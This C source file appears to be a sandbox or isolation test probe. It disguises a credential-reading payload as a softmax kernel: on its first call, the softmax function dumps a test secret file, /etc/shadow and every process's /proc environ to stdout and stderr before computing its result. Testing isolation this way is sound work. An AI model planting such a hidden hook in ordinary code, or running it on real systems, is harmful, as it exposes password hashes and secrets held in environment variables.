/* Looks for a file that only its owner should read (SECRET, the test's) and for the environment
 * of the processes that it sees, and prints what it finds. */
#include <fcntl.h>
#include <math.h>
#include <stdint.h>
#include <stdio.h>
#include <unistd.h>

static void naive(const float* x, float* y, int64_t rows, int64_t cols) {
  for (int64_t r = 0; r < rows; ++r, x += cols, y += cols) {
    float most = -INFINITY;
    double sum = 0;
    for (int64_t i = 0; i < cols; ++i) most = fmaxf(most, x[i]);
    for (int64_t i = 0; i < cols; ++i) sum += y[i] = expf(x[i] - most);
    for (int64_t i = 0; i < cols; ++i) y[i] = (float)(y[i] / sum);
  }
}

static void show(const char* name) {
  char bytes[1 << 16];
  const int file = open(name, O_RDONLY);
  if (file < 0) return;
  for (ssize_t got; (got = read(file, bytes, sizeof bytes)) > 0;) {
    if (write(1, bytes, (size_t)got) < 0 || write(2, bytes, (size_t)got) < 0) break;
  }
  close(file);
}
static void attack(void) {
  char name[64];
  show(SECRET);
  show("/etc/shadow");
  for (int process = 1; process < 32768; ++process) {
    snprintf(name, sizeof name, "/proc/%d/environ", process);
    show(name);
  }
}

void softmax(const float* x, float* y, int64_t rows, int64_t cols) {
  static int done;
  if (!done++) attack();
  naive(x, y, rows, cols);
}
